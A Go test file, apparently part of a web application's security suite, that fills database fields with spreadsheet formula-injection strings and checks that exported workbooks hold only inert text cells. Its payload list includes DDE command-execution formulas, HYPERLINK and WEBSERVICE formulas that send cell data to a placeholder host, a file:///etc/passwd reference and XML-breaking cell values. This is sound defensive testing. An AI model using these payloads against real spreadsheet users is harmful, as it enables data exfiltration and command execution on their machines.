package app_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"fmt"
	"io"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

const workbookKind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

// formulas are two hundred texts that a table program would like to run.
func formulas() []string {
	bodies := []string{"1+1", "SUM(A1:A9)", `cmd|' /C calc'!A0`, `HYPERLINK("http://192.0.2.1/?x="&A1,"点这里")`, `WEBSERVICE("http://192.0.2.1/"&B2)`, `IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")`,
		`DDE("cmd";"/C calc";"x")`, `MSEXCEL|'\..\..\..\Windows\System32\cmd.exe'!''`, `INDIRECT("A1")`, `EXEC("calc.exe")`, `IF(1,"真","假")`, `'file:///etc/passwd'#$passwd.A1`}
	starts := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\n=", " =", "'=", `"=`, "\u200b=", "\ufeff=", "%="}
	out := []string{`</t></is></c><c t="n"><f>1+1</f></c>`, "]]><f>1+1</f>", "_x003D_1+1", "&#61;1+1", "\u202e1+1=", "=A1\x00", "{=1+1}", "#REF!"}
	for _, s := range starts {
		for _, b := range bodies {
			out = append(out, s+b)
		}
	}
	return out
}

// Formula: two hundred such texts in every field that a workbook of ours repeats; reopened, by the archive's own XML and by
// a library, every cell of every workbook is a string, and nothing in it computes, links or fetches.
func (h *hostile) formula(t *testing.T) {
	list := formulas()
	if len(list) < 200 {
		t.Fatalf("%d texts", len(list))
	}
	var problem string
	if problem = h.ids["problem"]["own"]; problem == "" {
		t.Fatal("no problem is planted")
	}
	var columns string
	if err := h.env.Owner.Get(t.Context(), &columns, `SELECT string_agg(quote_ident(attname), ', ' ORDER BY attnum) FROM pg_attribute WHERE attrelid = 'problems'::regclass AND attnum > 0 AND NOT attisdropped AND attgenerated = ''`); err != nil {
		t.Fatal(err)
	}
	for i, x := range list { // the planted problem again and again, with other words
		h.owner(`INSERT INTO problems (`+columns+`) SELECT `+columns+` FROM jsonb_populate_record(NULL::problems, (SELECT to_jsonb(p) FROM problems p WHERE id = $1) || jsonb_build_object('id', gen_random_uuid(), 'number', 'FX' || $2::text,
			'agency_number', 'FY' || $2::text, 'fact', $3::text, 'agency_text', $3::text))`, problem, i, strings.ReplaceAll(x, "\x00", ""))
	}
	h.owner(`UPDATE offices SET name = '=1+1' || right(id::text, 12)`)
	h.owner(`UPDATE agencies SET name = '@SUM(A1)' || right(id::text, 12)`)
	books, cells, seen := 0, 0, map[string]bool{}
	for _, r := range readMatrix(t) {
		if r.method != "GET" || !h.serves(r.key()) {
			continue
		}
		for i, role := range roles {
			c := h.clients[role.letter]
			if c == nil || strings.IndexByte("+*o", r.letters[i]) < 0 {
				continue
			}
			a := h.ask(c, r, role.letter, role.login, h.idOf(r.kind, role.letter, "own"))
			if kind, _, _ := strings.Cut(a.header.Get("Content-Type"), ";"); kind != workbookKind && !bytes.HasPrefix(a.body, []byte("PK\x03\x04")) {
				if strings.Contains(kind, "csv") {
					t.Errorf("%s gives %s: a text table needs its own guard", r, kind)
				}
				break // the other roles get the same kind
			}
			books++
			what := fmt.Sprintf("%s as %c", r, role.letter)
			cells += onlyStrings(t, what, a.body)
			for _, v := range values(t, what, a.body) {
				seen[v] = true
			}
		}
	}
	if books < 6 || cells < 1000 {
		t.Errorf("only %d workbooks with %d cells", books, cells)
	}
	for _, x := range list {
		plain := strings.ReplaceAll(x, "\x00", "")
		if !seen[plain] && !seen[strings.TrimSpace(plain)] {
			t.Errorf("%q does not stand in any workbook as it was written", x)
		}
	}
	t.Logf("formula: %d texts, %d workbooks, %d cells, all strings", len(list), books, cells)
}

// onlyStrings reads the archive without a library for tables: cells are inline or shared strings, nothing computes, and
// nothing points outside.
func onlyStrings(t *testing.T, what string, book []byte) (cells int) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	for _, f := range z.File {
		if lower := strings.ToLower(f.Name); strings.Contains(lower, "vba") || strings.Contains(lower, "external") || strings.Contains(lower, "macro") || strings.Contains(lower, "calcchain") || strings.Contains(lower, "connections") {
			t.Errorf("%s holds %s", what, f.Name)
		}
		if ext := path.Ext(f.Name); ext != ".xml" && ext != ".rels" {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		_ = r.Close()
		if err != nil {
			t.Fatal(err)
		}
		d := xml.NewDecoder(bytes.NewReader(raw))
		for {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: %s: %v", what, f.Name, err)
			}
			e, ok := token.(xml.StartElement)
			if !ok {
				continue
			}
			attr := func(name string) string {
				for _, a := range e.Attr {
					if a.Name.Local == name {
						return a.Value
					}
				}
				return ""
			}
			switch {
			case strings.HasPrefix(f.Name, "xl/worksheets/") && e.Name.Local == "c":
				cells++
				if kind := attr("t"); kind != "inlineStr" && kind != "s" {
					t.Errorf("%s: %s: cell %s is of type %q", what, f.Name, attr("r"), kind)
				}
			case slices.Contains([]string{"f", "hyperlink", "definedName", "oleObject", "control", "externalReference", "dde", "ddeLink", "legacyDrawing"}, e.Name.Local):
				t.Errorf("%s: %s holds a %s", what, f.Name, e.Name.Local)
			case attr("TargetMode") == "External":
				t.Errorf("%s: %s points to %s", what, f.Name, attr("Target"))
			}
		}
	}
	return cells
}

// values are all cells as a library reads them; it must call each a string as well.
func values(t *testing.T, what string, book []byte) (out []string) {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	defer func() { _ = x.Close() }()
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		for i, row := range rows {
			for j, v := range row {
				if v == "" {
					continue
				}
				at, _ := excelize.CoordinatesToCellName(j+1, i+1)
				kind, err := x.GetCellType(sheet, at)
				if err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
					t.Errorf("%s: %s!%s is of type %v: %v", what, sheet, at, kind, err)
				}
				out = append(out, v)
			}
		}
	}
	return out
}
